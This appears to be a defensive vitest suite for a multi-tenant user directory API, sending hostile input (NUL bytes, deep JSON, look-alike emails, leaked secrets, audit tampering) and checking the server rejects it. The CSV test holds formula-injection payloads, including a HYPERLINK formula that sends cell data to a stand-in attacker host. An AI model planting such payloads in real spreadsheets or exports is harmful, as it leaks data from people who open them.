import crypto from 'node:crypto';
import { Writable } from 'node:stream';
import os from 'node:os';
import fs from 'node:fs';
import path from 'node:path';
import supertest from 'supertest';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, PASSWORD, ADMIN_EMAIL, ADMIN_PASSWORD, type Json, type TestApp } from '../support/test-app';
import { createLogger } from '../../server/logger';
import { loadConfig } from '../../server/config';
import { createRoster } from '../../server/roster';

/*
 * Hostile input and data protection, played over HTTP: encodings, NUL bytes, absurd sizes and
 * depths, look-alike emails, spreadsheet formulas, secrets in answers and logs, the audit log
 * as a target, tokens in URLs, restore and purge.
 */
let app: TestApp;
let t: { tenantId: string; slug: string; auth: { Authorization: string } };
beforeAll(async () => {
  app = await createTestApp();
  t = await app.tenantWithUser('tenant_admin');
});
afterAll(() => app.close());

const users = () => `/api/v1/tenants/${t.tenantId}/users`;
const newEmail = () => `in-${crypto.randomUUID().slice(0, 8)}@example.com`;

describe('encodings, NUL bytes, sizes and depth', () => {
  it('a NUL byte anywhere in the URL is 400, never a database error', async () => {
    for (const url of [`${users()}?search=a%00b`, `${users()}?sort_by=%00`, `${users()}/abc%00def`, `/api/v1/users/search?q=%00`]) {
      const res = await app.http.get(url).set(t.auth);
      expect(res.status, url).toBe(400);
      expect(res.body.error.code).toBe('invalid_request');
    }
  });

  it('a NUL character or a lone surrogate in a field is 422 naming the field, and nothing is stored', async () => {
    const cases: [Json, string[]][] = [
      [{ email: newEmail(), first_name: 'Ann\u0000Lee' }, ['body', 'first_name']],
      [{ email: newEmail(), custom_attributes: { badge: 'x\u0000' } }, ['body', 'custom_attributes', 'badge']],
      [{ email: newEmail(), last_name: 'Lee\ud800' }, ['body', 'last_name']],
      [{ email: newEmail(), metadata: { 'k\u0000ey': 1 } }, ['body', 'metadata', 'k\u0000ey']],
    ];
    for (const [body, loc] of cases) {
      const res = await app.http.post(users()).set(t.auth).send({ ...body, send_welcome_email: false });
      expect(res.status, JSON.stringify(res.body)).toBe(422);
      expect(res.body.detail[0].loc).toEqual(loc);
      expect((await app.http.get(`${users()}?email=${encodeURIComponent(body.email)}`).set(t.auth)).body.pagination.total_items).toBe(0);
    }
  });

  it('a body that is not valid UTF-8 is 400', async () => {
    const bytes = Buffer.concat([Buffer.from(`{"email":"${newEmail()}","first_name":"`), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('"}')]);
    const res = await app.http.post(users()).set(t.auth).set('Content-Type', 'application/json').serialize((b: Buffer) => b as never).send(bytes as never);
    expect(res.status, JSON.stringify(res.body)).toBe(400);
    expect(res.body.error.message).toMatch(/UTF-8/);
  });

  it('malformed JSON is 400; a body over the limit is 413', async () => {
    const bad = await app.http.post(users()).set(t.auth).set('Content-Type', 'application/json').send('{"email": ');
    expect(bad.status).toBe(400);
    const huge = await app.http.post(users()).set(t.auth).send({ email: newEmail(), first_name: 'x'.repeat(2 * 1024 * 1024) });
    expect(huge.status).toBe(413);
    expect(huge.body.error.code).toBe('payload_too_large');
  });

  it('JSON nested 10 000 deep and arrays of 50 000 items are refused with 422, not a crash', async () => {
    const deep = `{"email":"${newEmail()}","custom_attributes":${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}}`;
    const res = await app.http.post(users()).set(t.auth).set('Content-Type', 'application/json').send(deep);
    expect(res.status, JSON.stringify(res.body).slice(0, 300)).toBe(422);
    expect(res.body.detail[0].type).toBe('too_deep');
    const wide = await app.http.post(users()).set(t.auth).send({ email: newEmail(), custom_attributes: { list: Array(50_000).fill(1) } });
    expect(wide.status).toBe(422);
    expect(wide.body.detail[0]).toMatchObject({ loc: ['body', 'custom_attributes', 'list'], type: 'too_long' });
    // The server is fine afterwards.
    expect((await app.http.get(users()).set(t.auth)).status).toBe(200);
  });
});

describe('SCIM bodies get the same guard', () => {
  it('NUL characters, lone surrogates and absurd depth in a SCIM body are refused, never a 5xx', async () => {
    const token = await app.http.post(`/api/v1/tenants/${t.tenantId}/api-tokens`).set(t.auth).send({ name: 'scim-input', scopes: ['scim'] });
    const scim = { Authorization: `Bearer ${token.body.data.token}`, 'Content-Type': 'application/scim+json' };
    const user = (fields: Json) => ({ schemas: ['urn:ietf:params:scim:schemas:core:2.0:User'], userName: newEmail(), ...fields });
    const deep = JSON.stringify(user({})).replace(/}$/, `,"name":${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}}`);
    for (const body of [user({ displayName: 'Ann\u0000Lee' }), user({ displayName: 'Lee\ud800' }), deep]) {
      const res = await app.http.post('/scim/v2/Users').set(scim).send(body);
      expect(res.status, res.text.slice(0, 200)).toBeGreaterThanOrEqual(400);
      expect(res.status).toBeLessThan(500);
      expect(res.body.schemas).toEqual(['urn:ietf:params:scim:api:messages:2.0:Error']);
    }
  });
});

describe('emails in one canonical form', () => {
  it('look-alike spellings of one address are one account: case, spaces, full-width letters, ß', async () => {
    const first = await app.http.post(users()).set(t.auth).send({ email: 'Strasse.Ann@Example.com', password: PASSWORD, send_welcome_email: false });
    expect(first.status, JSON.stringify(first.body)).toBe(201);
    for (const email of ['strasse.ann@example.com', ' STRASSE.ANN@EXAMPLE.COM ', 'ｓｔｒａｓｓｅ.ann@example.com', 'STRASSE.ANN@EXAMPLE.COM']) {
      const dup = await app.http.post(users()).set(t.auth).send({ email, send_welcome_email: false });
      expect([409, 422], `${email}: ${JSON.stringify(dup.body)}`).toContain(dup.status);
      if (dup.status === 409) expect(dup.body.error.code).toBe('duplicate_email');
    }
    for (const login of [' strasse.ann@EXAMPLE.com', 'ＳＴＲＡＳＳＥ.ANN@example.com']) {
      const res = await app.http.post('/api/v1/auth/token').send({ grant_type: 'password', tenant: t.slug, username: login, password: PASSWORD });
      expect(res.status, login).toBe(200);
    }
  });
});

describe('spreadsheet formulas in CSV the server writes', () => {
  it('no cell of an import errors.csv starts with = + - @ tab or CR', async () => {
    const evil = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    const csv = ['email,first_name,role,custom.=x', ...evil.map((v, i) => `"${v.replace(/"/g, '""')}${i}",${JSON.stringify(v)},"${v.replace(/"/g, '""')}",${JSON.stringify(v)}`)].join('\n');
    const job = await app.http.post('/api/v1/users/bulk-import?mode=create&on_error=skip').set(t.auth).set('Content-Type', 'text/csv').send(csv);
    expect(job.status, JSON.stringify(job.body)).toBeLessThan(300);
    const id = job.body.data.id;
    for (let i = 0; i < 100; i++) {
      const s = await app.http.get(`/api/v1/import-jobs/${id}`).set(t.auth);
      if (!['queued', 'running', 'QUEUED', 'RUNNING'].includes(s.body.data.status)) break;
      await new Promise((r) => setTimeout(r, 100));
    }
    const errors = await app.http.get(`/api/v1/import-jobs/${id}/errors.csv`).set(t.auth).buffer(true).parse((res, cb) => {
      let text = '';
      res.on('data', (c: Buffer) => (text += c.toString()));
      res.on('end', () => cb(null, text));
    });
    expect(errors.status).toBe(200);
    const rows: string[][] = parse(errors.body as string, { relax_column_count: true });
    expect(rows.length).toBeGreaterThan(1);
    for (const cell of rows.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('secrets never leave: answers, exports, audit events, logs', () => {
  it('no password hash, TOTP secret, recovery code or refresh token in any answer about a user', async () => {
    const u = await app.createUser(t.tenantId, { email: `sec-${crypto.randomUUID().slice(0, 6)}@${t.slug}.example.com` });
    const session = await app.login(u.email, PASSWORD, t.slug);
    const enrol = await app.http.post('/api/v1/users/me/mfa/totp').set(session.auth).send({});
    expect(enrol.status, JSON.stringify(enrol.body)).toBeLessThan(300);
    const row = await app.roster.db.knex('users').where({ id: u.id }).first();
    const secrets = [row.passwordHash, row.totpSecret, row.totpPendingSecret, session.refresh_token].filter((s): s is string => Boolean(s));
    expect(secrets.length).toBeGreaterThanOrEqual(3);
    const answers: [string, Awaited<ReturnType<typeof app.http.get>>][] = [
      ['user', await app.http.get(`${users()}/${u.id}?include=groups,identities,ou`).set(t.auth)],
      ['list', await app.http.get(`${users()}?search=sec-`).set(t.auth)],
      ['caller user', await app.http.get(`/api/v1/users/${u.id}`).set(t.auth)],
      ['search', await app.http.get(`/api/v1/users/search?q=sec-`).set(t.auth)],
      ['export', await app.http.post(`/api/v1/users/${u.id}/export`).set(t.auth)],
      ['activity', await app.http.get(`/api/v1/users/${u.id}/activity`).set(t.auth)],
      ['audit', await app.http.get(`/api/v1/tenants/${t.tenantId}/audit-events`).set(t.auth)],
      ['me', await app.http.get('/api/v1/users/me').set(session.auth)],
      ['admin user', await app.http.get(`/api/v1/admin/users/${u.id}`).set(t.auth)],
    ];
    for (const [name, res] of answers) {
      expect(res.status, name).toBe(200);
      const text = res.text ?? JSON.stringify(res.body);
      for (const secret of secrets) expect(text.includes(secret), `${name} leaks a secret`).toBe(false);
      expect(text).not.toMatch(/\$argon2|\$2[aby]\$|password_hash|totp_secret|token_hash/);
    }
  });

  it('log lines hold no password, bearer token, refresh token, hash or cookie', async () => {
    const lines: string[] = [];
    const sink = new Writable({ write(chunk, _enc, cb) { lines.push(chunk.toString()); cb(); } });
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'roster-log-'));
    const config = loadConfig({
      ROSTER_DATA_DIR: dir, ROSTER_ADMIN_EMAIL: ADMIN_EMAIL, ROSTER_ADMIN_PASSWORD: ADMIN_PASSWORD, ROSTER_HASH_THREADS: '1', LOG_LEVEL: 'trace',
      ...(process.env.TEST_DATABASE_URL ? { DATABASE_URL: (app.roster.db.knex.client.config.connection as { connectionString: string }).connectionString } : {}),
    });
    const roster = await createRoster(config, createLogger(config, sink));
    try {
      const http = supertest(roster.app.callback());
      const login = await http.post('/api/v1/auth/token').set('Cookie', 'session=cookie-secret-value')
        .send({ grant_type: 'password', username: ADMIN_EMAIL, password: ADMIN_PASSWORD });
      expect(login.status).toBe(200);
      const auth = { Authorization: `Bearer ${login.body.access_token}` };
      const secretPassword = `Logged-${crypto.randomUUID()}`;
      const made = await http.post(`/api/v1/tenants/${roster.bootstrap.tenantId}/users`).set(auth).send({ email: newEmail(), password: secretPassword, send_welcome_email: false });
      expect(made.status).toBe(201);
      await http.get(`/api/v1/users/me?access_token=${login.body.access_token}`);
      await http.post('/api/v1/auth/token').send({ grant_type: 'refresh_token', refresh_token: login.body.refresh_token });
      await http.post('/api/v1/auth/token').send({ grant_type: 'password', username: ADMIN_EMAIL, password: 'wrong-but-secret-guess' });
      const hash = (await roster.db.knex('users').where({ id: made.body.data.id }).first('passwordHash')).passwordHash as string;
      const log = lines.join('');
      expect(lines.length).toBeGreaterThan(4);
      for (const secret of [ADMIN_PASSWORD, secretPassword, login.body.access_token, login.body.refresh_token, 'cookie-secret-value', 'wrong-but-secret-guess', hash]) {
        expect(log.includes(secret), `the log holds ${secret.slice(0, 12)}…`).toBe(false);
      }
    } finally {
      await roster.close();
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('the audit log as a target', () => {
  it('answers 405 to every attempt to change it', async () => {
    const url = `/api/v1/tenants/${t.tenantId}/audit-events`;
    for (const method of ['put', 'patch', 'delete', 'post'] as const) {
      const res = await app.http[method](url).set(t.auth).send({});
      expect(res.status, method).toBe(405);
      expect(res.headers.allow).toMatch(/GET/);
    }
  });

  it('a denied attempt is itself audited, in the caller\'s tenant', async () => {
    const viewer = await app.createUser(t.tenantId, { email: `viewer-${crypto.randomUUID().slice(0, 6)}@${t.slug}.example.com`, role: 'viewer' });
    const { auth } = await app.login(viewer.email, PASSWORD, t.slug);
    const denied = await app.http.post(users()).set(auth).send({ email: newEmail() });
    expect(denied.status).toBe(403);
    const events = await app.http.get(`/api/v1/tenants/${t.tenantId}/audit-events?action=access.denied`).set(t.auth);
    expect(events.status).toBe(200);
    const mine = events.body.data.filter((e: Json) => e.actor_id === viewer.id || e.actor?.id === viewer.id);
    expect(mine.length, JSON.stringify(events.body.data)).toBeGreaterThanOrEqual(1);
    expect(JSON.stringify(mine[0])).toMatch(/POST/);
  });

  it('a SCIM request refused for want of the scim scope is audited too', async () => {
    const token = await app.http.post(`/api/v1/tenants/${t.tenantId}/api-tokens`).set(t.auth).send({ name: `reader ${crypto.randomUUID().slice(0, 6)}`, scopes: ['users:read'] });
    const denied = await app.http.get('/scim/v2/Users').set('Authorization', `Bearer ${token.body.data.token}`);
    expect(denied.status).toBe(403);
    expect(denied.body.schemas).toEqual(['urn:ietf:params:scim:api:messages:2.0:Error']);
    const events = await app.http.get(`/api/v1/tenants/${t.tenantId}/audit-events?action=access.denied`).set(t.auth);
    const scim = events.body.data.filter((e: Json) => JSON.stringify(e).includes('/scim/v2/Users'));
    expect(scim.length, JSON.stringify(events.body.data)).toBe(1);
    expect(JSON.stringify(scim[0])).toMatch(/scim/);
  });
});

describe('tokens only in the Authorization header', () => {
  it('a valid token in ?access_token= is not accepted', async () => {
    const token = t.auth.Authorization.slice('Bearer '.length);
    for (const url of [`/api/v1/users/me?access_token=${token}`, `${users()}?access_token=${token}`, `/scim/v2/Users?access_token=${token}`]) {
      expect((await app.http.get(url)).status, url).toBe(401);
    }
  });
});

describe('restore and purge', () => {
  it('a soft-deleted user comes back with its memberships; a purged one is gone from search and export', async () => {
    const u = await app.createUser(t.tenantId, { email: `rs-${crypto.randomUUID().slice(0, 6)}@example.com` });
    const g = await app.http.post(`/api/v1/tenants/${t.tenantId}/groups`).set(t.auth).send({ name: `G ${crypto.randomUUID().slice(0, 6)}` });
    expect((await app.http.post(`/api/v1/tenants/${t.tenantId}/groups/${g.body.data.id}/members`).set(t.auth).send({ user_ids: [u.id] })).status).toBeLessThan(300);
    expect((await app.http.delete(`${users()}/${u.id}?confirm_email=${encodeURIComponent(u.email)}`).set(t.auth)).status).toBe(204);
    expect((await app.http.get(`${users()}/${u.id}`).set(t.auth)).status).toBe(404);

    const restored = await app.http.post(`${users()}/${u.id}/restore`).set(t.auth);
    expect(restored.status, JSON.stringify(restored.body)).toBe(200);
    expect(restored.body.data.deleted_at).toBeNull();
    expect(restored.headers.etag).toBeDefined();
    const withGroups = await app.http.get(`${users()}/${u.id}?include=groups`).set(t.auth);
    expect(withGroups.body.data.groups).toContainEqual(expect.objectContaining({ group_id: g.body.data.id, membership_type: 'DIRECT' }));
    expect((await app.http.post(`${users()}/${u.id}/restore`).set(t.auth)).status).toBe(409);
    const events = await app.roster.db.knex('activity_events').where({ subjectId: u.id, action: 'user.restored' }).count({ n: '*' });
    expect(Number(events[0].n)).toBe(1);

    // Another tenant's admin cannot restore it: 404, as for every other route.
    const other = await app.tenantWithUser('tenant_admin');
    expect((await app.http.post(`/api/v1/tenants/${other.tenantId}/users/${u.id}/restore`).set(other.auth)).status).toBe(404);
    expect((await app.http.post(`${users()}/${u.id}/restore`).set(other.auth)).status).toBe(404);

    expect((await app.http.delete(`${users()}/${u.id}?confirm_email=${encodeURIComponent(u.email)}&permanent=true`).set(t.auth)).status).toBe(204);
    expect((await app.http.get(`${users()}?search=${encodeURIComponent(u.email)}`).set(t.auth)).body.pagination.total_items).toBe(0);
    expect((await app.http.get(`/api/v1/users/search?q=${encodeURIComponent(u.email)}`).set(t.auth)).body.data).toEqual([]);
    expect((await app.http.post(`/api/v1/users/${u.id}/export`).set(t.auth)).status).toBe(404);
    expect((await app.http.post(`${users()}/${u.id}/restore`).set(t.auth)).status).toBe(404);
  });

  it('groups honour If-Match: a stale version is 412 and changes nothing', async () => {
    const g = await app.http.post(`/api/v1/tenants/${t.tenantId}/groups`).set(t.auth).send({ name: `E ${crypto.randomUUID().slice(0, 6)}` });
    const etag = g.headers.etag;
    expect(etag).toMatch(/^W\/"\d+"$/);
    expect((await app.http.patch(`/api/v1/tenants/${t.tenantId}/groups/${g.body.data.id}`).set(t.auth).set('If-Match', etag).send({ description: 'first' })).status).toBe(200);
    const stale = await app.http.patch(`/api/v1/tenants/${t.tenantId}/groups/${g.body.data.id}`).set(t.auth).set('If-Match', etag).send({ description: 'second' });
    expect(stale.status).toBe(412);
    expect(stale.body.error.code).toBe('precondition_failed');
    expect((await app.http.get(`/api/v1/tenants/${t.tenantId}/groups/${g.body.data.id}`).set(t.auth)).body.data.description).toBe('first');
  });
});
